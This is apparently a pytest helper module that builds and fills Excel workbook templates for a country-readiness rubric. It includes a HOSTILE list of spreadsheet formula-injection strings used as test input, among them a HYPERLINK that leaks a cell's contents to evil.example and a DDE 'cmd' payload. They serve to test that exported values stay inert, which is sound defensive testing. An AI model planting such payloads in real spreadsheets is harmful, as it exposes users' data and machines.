"""Workbook test helpers: the small rubric, templates, and a correctly filled workbook to break.

Imported by module name (pytest puts this folder on sys.path), fixtures via conftest.py.
"""

from __future__ import annotations

import math
import re
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from readiness.inputs.values import Values, make_table
from readiness.rubric import load_rubric
from readiness.rubric.model import Rubric
from readiness.workbook import layout as L
from readiness.workbook import validate_workbook, write_template
from readiness.workbook.raw import open_workbook
from readiness.workbook.validate import WorkbookReport

HERE = Path(__file__).parent
PERIOD = "2026-Q4"
TODAY = date(2026, 11, 15)

# Rows of the template for tests/workbook/rubric.yaml: pillar, then indicator, then country.
ROWS = {
    ("KAZ", "rule_of_law"): 2,
    ("KGZ", "rule_of_law"): 3,
    ("UZB", "rule_of_law"): 4,
    ("KAZ", "mining_code"): 5,
    ("KGZ", "mining_code"): 6,
    ("UZB", "mining_code"): 7,
    ("KAZ", "fdi_inflows"): 8,
    ("KGZ", "fdi_inflows"): 9,
    ("UZB", "fdi_inflows"): 10,
    ("KAZ", "us_bit"): 11,
    ("KGZ", "us_bit"): 12,
    ("UZB", "us_bit"): 13,
}
GOOD = {"rule_of_law": 45.5, "mining_code": "modern", "fdi_inflows": 3.25, "us_bit": "yes"}
GOOD_AS_OF = date(2025, 12, 31)

Edit = Callable[[Any], None]  # receives the openpyxl workbook


@pytest.fixture(scope="session")
def rubric() -> Rubric:
    return load_rubric(HERE / "rubric.yaml")


@pytest.fixture(name="template")
def template_workbook(tmp_path: Path, rubric: Rubric) -> Path:
    """The template of the small rubric (fixture `template`)."""
    path = tmp_path / "template.xlsx"
    write_template(rubric, PERIOD, path)
    return path


def fill(ws: Any) -> None:
    """Fill every row of a Values sheet with valid values and evidence."""
    for row in ws.iter_rows(min_row=2):
        indicator = row[3].value
        row[6].value = GOOD[indicator]
        row[7].value = GOOD_AS_OF
        row[7].number_format = "yyyy-mm-dd"
        row[8].value = "World Bank"
        row[9].value = "https://example.org/data"
        row[10].value = f"Evidence for {row[0].value} {indicator}."


@pytest.fixture
def make_workbook(tmp_path: Path, template: Path) -> Callable[..., Path]:
    """A filled workbook, then `edit(workbook)` applied, saved under a new name."""
    counter = iter(range(1000))

    def make(edit: Edit | None = None, *, filled: bool = True) -> Path:
        book = openpyxl.load_workbook(template)
        if filled:
            fill(book["Values"])
        if edit is not None:
            edit(book)
        path = tmp_path / f"filled-{next(counter)}.xlsx"
        book.save(path)
        return path

    return make


def check(path: Path, rubric: Rubric, **kwargs: Any) -> WorkbookReport:
    kwargs.setdefault("today", TODAY)
    return validate_workbook(path, rubric, **kwargs)


def keys(report: WorkbookReport) -> list[tuple[str, str]]:
    return [p.key() for p in report.problems]


def rewrite_sheet_xml(src: Path, dest: Path, sheet: str, change: Callable[[bytes], bytes]) -> None:
    """Copy an .xlsx, passing one worksheet's XML through `change` (for hand-made damage)."""
    with zipfile.ZipFile(src) as zin:
        book_xml = zin.read("xl/workbook.xml").decode()
        rels = zin.read("xl/_rels/workbook.xml.rels").decode()
        rid = re.search(rf'<sheet[^>]*name="{sheet}"[^>]*r:id="(rId\d+)"', book_xml)
        assert rid is not None
        target = re.search(rf'Id="{rid.group(1)}"[^>]*Target="([^"]+)"', rels) or re.search(
            rf'Target="([^"]+)"[^>]*Id="{rid.group(1)}"', rels
        )
        assert target is not None
        part = "xl/" + target.group(1).lstrip("/").removeprefix("xl/")
        with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
            for info in zin.infolist():
                data = zin.read(info.filename)
                if info.filename == part:
                    data = change(data)
                zout.writestr(info, data)


# Text that a spreadsheet would run as a formula if it were written as one.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
]


def values_sheet_xml(path: Path) -> str:
    with open_workbook(path) as book:
        part = book.sheet_paths[L.VALUES]
    with zipfile.ZipFile(path) as z:
        return z.read(part).decode("utf-8")


def sample_values(rubric: Rubric) -> Values:
    rows: list[dict[str, object]] = []
    for k, (unit, indicator) in enumerate(ROWS):
        value: float = {"rule_of_law": 50.0 + k, "mining_code": 3.0, "fdi_inflows": 2.5}.get(
            indicator, 0.0
        )
        rows.append(
            {
                "unit": unit,
                "indicator": indicator,
                "value": math.nan if (unit, indicator) == ("UZB", "fdi_inflows") else value,
                "as_of": "2025" if indicator == "rule_of_law" else "2026-06-30",
                "source": HOSTILE[k % len(HOSTILE)],
                "source_url": "https://example.org/source",
                "note": HOSTILE[(k + 1) % len(HOSTILE)],
            }
        )
    return Values(table=make_table(rows), period=PERIOD)
